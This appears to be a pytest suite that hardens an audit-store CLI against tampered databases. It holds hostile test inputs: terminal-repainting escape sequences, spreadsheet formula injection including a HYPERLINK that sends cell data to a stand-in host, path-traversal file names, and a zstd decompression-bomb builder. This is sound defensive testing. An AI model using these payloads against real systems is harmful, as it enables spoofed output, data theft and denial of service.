"""An audit store written by someone hostile: what the readers show cannot drive the terminal
or a spreadsheet, what cannot be a store is refused before SQLite opens it, decompression
costs one bounded record at a time, a stored policy cannot write outside its temporary
folder (which is removed), and every such store is one line and exit 2 (1 from verify),
never a traceback."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import socket
import sqlite3
import stat
import subprocess
import sys
from pathlib import Path

import pytest
import zstandard
from click.testing import CliRunner, Result
from helpers import raw_audit
from helpers.measured import run_engine

from engine.answers.model import validate_answers
from engine.audit import codec
from engine.audit.chain import verify
from engine.audit.store import AuditStore, policy_hash
from engine.cli import cli
from engine.decide.engine import Engine, load_engine

ROOT = Path(__file__).resolve().parent.parent
FORGED = "\x1b[2K\r ok: 37 record(s), chain intact"
"""What a forger puts in a stored string to repaint a BROKEN line on a terminal."""
SHOWN = "\\x1b[2K\\r ok: 37 record(s), chain intact"
"""The same, as the readers must show it."""
RAW = ("\x1b", "\r", "\x9b", "\u202e")


@pytest.fixture(autouse=True)
def no_audit_key(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("GPU_ADVISOR_AUDIT_KEY", "GPU_ADVISOR_AUDIT_KEY_FILE"):
        monkeypatch.delenv(name, raising=False)


@pytest.fixture(scope="module")
def engine() -> Engine:
    return load_engine()


@pytest.fixture(scope="module")
def template(engine: Engine, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store with three good records, copied by each test."""
    path = tmp_path_factory.mktemp("template") / "audit.sqlite3"
    with AuditStore(path) as store:
        for hours in (1000, 2000, 3000):
            answers = validate_answers({"model": "mistral-7b", "hours_per_year": hours},
                                       engine.catalog)
            store.append(engine.recommend(answers), engine.rulebook.texts, engine.catalog.texts)
    return path


@pytest.fixture
def db(template: Path, tmp_path: Path) -> Path:
    path = tmp_path / "audit.sqlite3"
    conn = sqlite3.connect(template)
    conn.execute("VACUUM INTO ?", (str(path),))
    conn.close()
    return path


def ids(db: Path) -> list[str]:
    conn = sqlite3.connect(db)
    try:
        return [row[0] for row in conn.execute("SELECT id FROM decisions ORDER BY seq")]
    finally:
        conn.close()


def edit(db: Path, statement: str, *params: object) -> None:
    conn = sqlite3.connect(db)
    conn.execute(statement, params)
    conn.commit()
    conn.close()


def run(*args: str) -> Result:
    result = CliRunner().invoke(cli, list(args))
    assert result.exception is None or isinstance(result.exception, SystemExit), (
        repr(result.exception))
    assert "Traceback" not in result.output
    return result


def one_line(result: Result, code: int = 2) -> str:
    assert result.exit_code == code, (result.stdout, result.stderr)
    assert result.stdout == ""
    lines = result.stderr.splitlines()
    assert len(lines) == 1, result.stderr
    return lines[0]


def no_raw_controls(text: str) -> None:
    assert not any(char in text for char in RAW), repr(text)


# -- what is shown is escaped -----------------------------------------------------------------
def test_verify_cannot_be_repainted_by_a_stored_id(db: Path) -> None:
    first = ids(db)[0]
    edit(db, "UPDATE decisions SET id = ? WHERE id = ?", first + FORGED, first)
    line = one_line(run("audit", "verify", "--audit-db", str(db)), code=1)
    assert line == (f"BROKEN at record {first}{SHOWN} (after 0 good record(s)): its id column "
                    "does not match its content")
    no_raw_controls(line)


def test_audit_list_shows_stored_columns_escaped(db: Path) -> None:
    first = ids(db)[0]
    edit(db, "UPDATE decisions SET id = ?, created_at = ? WHERE id = ?", first + FORGED,
         "2026-01-01T00\u202e:00:00", first)
    result = run("audit", "list", "--audit-db", str(db))
    assert result.exit_code == 0, result.stderr
    no_raw_controls(result.stdout)
    assert "\\x1b[2K\\r" in result.stdout and "\\u202e" in result.stdout


def test_audit_show_renders_stored_text_escaped(db: Path) -> None:
    target = ids(db)[1]
    raw_audit.replace_in_record(db, target, f'"decision_id": "{target}"',
                                f'"decision_id": "{target}\\u001b[2K\\r ok: 37 record(s), '
                                f'chain intact\u202e\x9b"')
    for fmt in ("text", "markdown", "json"):
        result = run("audit", "show", target, "--audit-db", str(db), "--format", fmt)
        assert result.exit_code == 0, result.stderr
        no_raw_controls(result.stdout)
    assert SHOWN in result.stdout or "\\u001b[2K" in result.stdout
    shown = json.loads(result.stdout)  # the JSON keeps its value, written with escapes
    assert shown["decision_id"] == f"{target}{FORGED}\u202e\x9b"
    assert "\\u202e" in result.stdout and "\\u009b" in result.stdout


def test_csv_export_cannot_run_a_formula_or_drive_the_terminal(db: Path) -> None:
    first, second = ids(db)[:2]
    edit(db, "UPDATE decisions SET id = ? WHERE id = ?", '=HYPERLINK("http://x","y")', first)
    edit(db, "UPDATE decisions SET engine_version = ? WHERE id = ?", "@SUM(A1)" + FORGED,
         second)
    result = run("audit", "export", "--format", "csv", "--audit-db", str(db))
    assert result.exit_code == 0, result.stderr
    no_raw_controls(result.stdout)
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[1][1] == "'=HYPERLINK(\"http://x\",\"y\")"
    assert rows[2][3] == "'@SUM(A1)" + SHOWN
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_jsonl_export_keeps_values_and_escapes_what_a_terminal_acts_on(db: Path) -> None:
    first = ids(db)[0]
    edit(db, "UPDATE decisions SET id = ? WHERE id = ?", first + "\u202e\x9b", first)
    result = run("audit", "export", "--audit-db", str(db))
    assert result.exit_code == 0, result.stderr
    no_raw_controls(result.stdout)
    assert json.loads(result.stdout.splitlines()[0])["id"] == first + "\u202e\x9b"


# -- bad columns: one line, exit 2 ------------------------------------------------------------
@pytest.mark.parametrize("args", [["list"], ["list", "--format", "json"], ["export"],
                                  ["export", "--format", "csv"]])
def test_a_choices_column_that_is_not_json_is_one_line(db: Path, args: list[str]) -> None:
    """``list`` refuses before printing; ``export`` streams, so it stops at the record,
    after the ones before it."""
    target = ids(db)[1]
    edit(db, "UPDATE decisions SET choices = ? WHERE id = ?", "{not json", target)
    result = run("audit", *args, "--audit-db", str(db))
    assert (result.exit_code, result.stderr) == (2, (
        f"error: record {target} cannot be read: its choices is not JSON; run "
        "`gpu-advisor audit verify`\n"))
    exported = result.stdout.splitlines()
    assert exported == [] if args[0] == "list" else len(exported) == (2 if "csv" in args else 1)


def test_a_result_that_is_not_a_decision_is_one_line(db: Path) -> None:
    target = ids(db)[0]
    raw_audit.replace_in_record(db, target, '"schema_version": 3', '"schema_version": "x"')
    line = one_line(run("audit", "show", target, "--audit-db", str(db)))
    assert line.startswith(f"error: record {target} (engine ")
    assert "holds a decision this engine cannot read" in line and "audit verify" in line


# -- a stored policy that names a file outside the policy ---------------------------------------
def _forge_policy(db: Path, engine: Engine, name: str) -> str:
    """Store the bundled rules plus a text named ``name`` under their true hash, and point
    every record at it (verify would say BROKEN; show and replay unpack it)."""
    texts = {**engine.rulebook.texts, name: "rules: []\n"}
    digest = policy_hash(texts)
    edit(db, "INSERT INTO policies (hash, kind, content) VALUES (?, 'rules', ?)", digest,
         json.dumps(texts, sort_keys=True))
    edit(db, "UPDATE decisions SET rules_hash = ?", digest)
    return digest


@pytest.mark.parametrize("name", ["rules/../../../escaped.yaml", "../escaped.yaml",
                                  "catalog/../../escaped.yaml", "/tmp/escaped.yaml",
                                  "rules/sub/escaped.yaml"])
def test_a_stored_policy_cannot_write_outside_its_folder(db: Path, engine: Engine,
                                                         tmp_path: Path, name: str) -> None:
    digest = _forge_policy(db, engine, name)
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    env = {**os.environ, "TMPDIR": str(scratch), "PYTHONDONTWRITEBYTECODE": "1"}
    for command in ("show", "replay"):
        done = subprocess.run([sys.executable, "-m", "engine", "audit", command, ids(db)[0],
                               "--audit-db", str(db)], capture_output=True, text=True,
                              cwd=ROOT, env=env, timeout=120, check=False)
        assert (done.returncode, done.stdout) == (2, ""), done.stderr
        assert done.stderr == (f"error: {db}: the stored policy {digest[:12]} cannot be "
                               f"unpacked (it names a file {name!r} outside the policy); the "
                               "store was altered\n")
    assert sorted(scratch.iterdir()) == []  # nothing escaped, and no folder left behind
    assert not Path("/tmp/escaped.yaml").exists()


def test_show_and_replay_leave_no_temporary_folder(db: Path, tmp_path: Path) -> None:
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    env = {**os.environ, "TMPDIR": str(scratch), "PYTHONDONTWRITEBYTECODE": "1"}
    for args in (["show"], ["show", "--trace"], ["replay"]):
        done = subprocess.run([sys.executable, "-m", "engine", "audit", *args, ids(db)[0],
                               "--audit-db", str(db)], capture_output=True, text=True,
                              cwd=ROOT, env=env, timeout=120, check=False)
        assert done.returncode == 0, done.stderr
    assert sorted(p.name for p in scratch.iterdir()) == []


# -- what cannot be a store is refused before SQLite opens it ----------------------------------
def _not_a_store(kind: str, folder: Path) -> Path:
    path = folder / "audit.sqlite3"
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "socket":
        server = socket.socket(socket.AF_UNIX)
        cwd = Path.cwd()
        os.chdir(folder)
        try:
            server.bind(path.name)
        finally:
            os.chdir(cwd)
    elif kind == "directory":
        path.mkdir()
    elif kind == "device-link":
        device = folder / "device"
        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
        path.symlink_to(device)
    elif kind == "fifo-wal":
        sqlite3.connect(path).close()
        os.mkfifo(f"{path}-wal")
    elif kind == "name-too-long":
        path = folder / ("x" * 300) / "audit.sqlite3"
    return path


NOT_A_STORE = {
    "fifo": "is a FIFO (named pipe), expected an audit store file",
    "socket": "is a socket, expected an audit store file",
    "directory": "is a directory, expected an audit store file",
    "device-link": "is a character device, expected an audit store file",
    "fifo-wal": "-wal is a FIFO (named pipe), not a regular file; refusing to open",
    "name-too-long": "cannot use this path (File name too long)",
}


@pytest.mark.parametrize("kind", list(NOT_A_STORE))
@pytest.mark.parametrize("command", [["audit", "verify"], ["audit", "list"],
                                     ["audit", "export"], ["audit", "show", "abc"],
                                     ["recommend", "--answers", "examples/startup-7b-continuous"
                                      ".yaml"]])
def test_what_cannot_be_a_store_is_refused_without_opening(kind: str, command: list[str],
                                                           tmp_path: Path) -> None:
    path = _not_a_store(kind, tmp_path)
    done = subprocess.run([sys.executable, "-m", "engine", *command, "--audit-db", str(path)],
                          capture_output=True, text=True, cwd=ROOT, timeout=120, check=False,
                          env={**os.environ, "PYTHONDONTWRITEBYTECODE": "1"})
    assert "Traceback" not in done.stderr
    assert (done.returncode, done.stdout) == (2, ""), done.stderr
    # a name too long for any file system is refused where the flag is parsed (shortened)
    shown = "error: --audit-db: " if kind == "name-too-long" else f"error: {path}: "
    assert done.stderr.startswith(shown) and NOT_A_STORE[kind] in done.stderr
    assert len(done.stderr.splitlines()) == 1


# -- decompression: one bounded record at a time -------------------------------------------------
BOMB_BYTES = 15 * 2**20
"""Each hostile body: a few kB of zstd that claim 15 MiB (under the per-record bound)."""


def _bombed(db: Path, copies: int, size: int = BOMB_BYTES) -> None:
    """Every record's body replaced by a bomb of ``size`` bytes, then ``copies`` more such
    records appended (a store of a few kB that would be GBs decompressed at once)."""
    bomb = zstandard.ZstdCompressor(level=19).compress(b"\0" * size)
    conn = sqlite3.connect(db)
    conn.execute("UPDATE decisions SET body = ?, dictionary = NULL", (bomb,))
    row = raw_audit.rows(conn)[-1]
    for number in range(copies):
        values = {**row, "seq": None, "id": f"bomb{number:04d}", "hash": f"{number:064x}",
                  "body": bomb}
        names = ", ".join(values)
        conn.execute(f"INSERT INTO decisions ({names}) VALUES "
                     f"({', '.join('?' * len(values))})", tuple(values.values()))
    conn.commit()
    conn.close()


@pytest.fixture
def counted(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """The size of every body decompressed."""
    sizes: list[int] = []
    real = codec._bounded

    def counting(decompressor: zstandard.ZstdDecompressor, data: object, what: str) -> bytes:
        out = real(decompressor, data, what)
        sizes.append(len(out))
        return out

    monkeypatch.setattr(codec, "_bounded", counting)
    return sizes


def test_verify_decompresses_only_up_to_the_first_bad_record(db: Path,
                                                             counted: list[int]) -> None:
    _bombed(db, copies=100)
    assert db.stat().st_size < 2 * 2**20  # ~1.6 GB of bodies in a small file
    with AuditStore(db, create=False) as store:
        result = verify(store)
    assert (result.problem, result.broken_id, result.count) == ("BROKEN", ids(db)[0], 0)
    assert counted == [BOMB_BYTES]


def test_export_stops_at_the_first_unreadable_record(db: Path, counted: list[int]) -> None:
    _bombed(db, copies=100)
    line = one_line(run("audit", "export", "--audit-db", str(db)))
    assert line == (f"error: {db}: record {ids(db)[0]} cannot be read (no record header); "
                    "run `gpu-advisor audit verify`")
    assert counted == [BOMB_BYTES]


def test_a_body_claiming_more_than_the_bound_is_refused_unread(db: Path,
                                                                counted: list[int]) -> None:
    _bombed(db, copies=3, size=codec.MAX_CONTENT_BYTES + 1)
    line = one_line(run("audit", "verify", "--audit-db", str(db)), code=1)
    assert line == (f"BROKEN at record {ids(db)[0]} (after 0 good record(s)): its stored body "
                    f"claims {codec.MAX_CONTENT_BYTES + 1:,} bytes")
    assert counted == []


@pytest.mark.slow
@pytest.mark.parametrize("command", ["verify", "export"])
def test_a_bomb_store_in_a_real_process_is_bounded(db: Path, tmp_path: Path,
                                                   command: str) -> None:
    """Under a 1 GB address-space limit (100 bodies of 15 MiB would need 1.5 GB at once)."""
    _bombed(db, copies=100)
    measure, err = run_engine(["audit", command, "--audit-db", str(db)], tmp_path / "rss",
                              env={**os.environ, "PYTHONDONTWRITEBYTECODE": "1"},
                              timeout=120, cwd=ROOT)
    assert measure.returncode == (1 if command == "verify" else 2), err
    assert f"record {ids(db)[0]}" in err.decode()
    assert 0 < measure.max_rss_kb < 200 * 1024, measure.max_rss_kb


# -- audit list --since/--until ----------------------------------------------------------------
@pytest.mark.parametrize("value", ["zzz", "2026-13-01", "yesterday", "2026-11-01T25:00", ""])
def test_since_and_until_must_be_iso_dates(db: Path, value: str) -> None:
    for flag in ("--since", "--until"):
        line = one_line(run("audit", "list", "--audit-db", str(db), flag, value))
        assert line.startswith(f"error: {flag}: {value!r} is not an ISO date or date/time")


def test_since_compares_times_not_text(db: Path) -> None:
    today = dt.datetime.now(dt.UTC).date()
    tomorrow = today + dt.timedelta(days=1)

    def listed(*args: str) -> int:
        result = run("audit", "list", "--audit-db", str(db), "--format", "json", *args)
        assert result.exit_code == 0, result.stderr
        return len(json.loads(result.stdout))

    assert listed("--since", today.isoformat()) == 3
    assert listed("--since", f"{today} 00:00") == 3       # a space, not a T: still a time
    assert listed("--since", f"{tomorrow}T00:00+00:00") == 0
    assert listed("--until", tomorrow.isoformat()) == 3
    assert listed("--since", f"{tomorrow}T00:00+23:59") == 3  # an offset is converted to UTC


# -- the corpus of hostile stores: tests/bad_inputs/stores/*.sql, each in every reader role ----
STORES = ROOT / "tests" / "bad_inputs" / "stores"
ROLES = {  # role → the command (TARGET: the record the case edits, by the start of its id)
    "verify": ["verify"], "list": ["list"], "list-json": ["list", "--format", "json"],
    "export": ["export"], "export-csv": ["export", "--format", "csv"],
    "show": ["show", "TARGET"], "show-markdown": ["show", "TARGET", "--format", "markdown"],
    "replay": ["replay", "TARGET"],
}
Expect = dict[str, tuple[int, str | None]]
"""role → (exit status, a fragment of its output); roles not named exit 0."""

STORE_CASES: dict[str, tuple[int, Expect]] = {  # file → (the record it edits, expectations)
    "id-repaints-the-terminal.sql": (1, {
        "verify": (1, "\\x1b[2K\\r ok: 37 record(s), chain intact (after 0 good record(s))"),
        "list": (0, "\\x1b[2K\\r"), "list-json": (0, "\\u001b[2K\\r ok"),
        "export": (0, "\\u001b[2K\\r ok"), "export-csv": (0, "\\x1b[2K\\r ok"),
        "replay": (1, "\\x1b[2K\\r ok: 37 record(s), chain intact: replay DIFFERS")}),
    "columns-drive-the-terminal.sql": (2, {
        "verify": (1, "columns do not match its content"), "list": (0, "\\u202e"),
        "export": (0, "\\u009b2J\\u001b]0;owned\\u0007"),
        "export-csv": (0, "\\x9b2J\\x1b]0;owned\\x07"),
        "show": (0, "engine 0.2.0\\x9b2J\\x1b]0;owned\\x07"),
        "show-markdown": (0, "engine 0.2.0\\x9b2J\\x1b]0;owned\\x07")}),
    "id-is-a-spreadsheet-formula.sql": (3, {
        "verify": (1, 'BROKEN at record =HYPERLINK("http://example.invalid/?"&A1,"open")'),
        "export-csv": (0, "'=HYPERLINK(")}),
    "choices-not-json.sql": (2, {
        **{role: (2, "its choices is not JSON") for role in ("list", "list-json", "export",
                                                              "export-csv")},
        "verify": (1, "its choices/rules_fired columns do not match its result")}),
    "dictionary-missing.sql": (1, {
        **{role: (2, "cannot be read (its dictionary 1 is missing)")
           for role in ("export", "export-csv", "show", "show-markdown", "replay")},
        "verify": (1, "its dictionary 1 is missing")}),
    "body-claims-60-mib.sql": (1, {
        **{role: (2, "its stored body claims 62,914,560 bytes")
           for role in ("export", "export-csv", "show", "show-markdown", "replay")},
        "verify": (1, "its stored body claims 62,914,560 bytes")}),
}


def test_every_store_case_has_an_expectation() -> None:
    assert {p.name for p in STORES.glob("*.sql")} == set(STORE_CASES)


@pytest.mark.parametrize("role", list(ROLES))
@pytest.mark.parametrize("case", sorted(STORE_CASES))
def test_a_hostile_store_in_every_reader_role(case: str, role: str, db: Path,
                                             counted: list[int]) -> None:
    """No traceback, no raw character a terminal acts on, no body decompressed whole past
    what a record is, one error line; the exit status and what is said as expected."""
    target, expect = STORE_CASES[case]
    start = ids(db)[target - 1][:12]
    conn = sqlite3.connect(db)
    conn.executescript((STORES / case).read_text(encoding="utf-8"))
    conn.close()
    args = [start if arg == "TARGET" else arg for arg in ROLES[role]]
    result = run("audit", *args, "--audit-db", str(db))
    code, fragment = expect.get(role, (0, None))
    output = result.stdout + result.stderr
    assert result.exit_code == code, output[-2000:]
    assert not any(char in output for char in (*RAW, "\x07", "\x08")), repr(output[-2000:])
    if code == 2 or (code and role == "verify"):  # (a replay that DIFFERS prints its diff)
        assert len(result.stderr.splitlines()) == 1, result.stderr
    if fragment is not None:
        assert fragment in output, output[-2000:]
    if role == "export-csv":
        cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert max(counted, default=0) < 2**20  # a record is ~20 kB; no bomb was decompressed
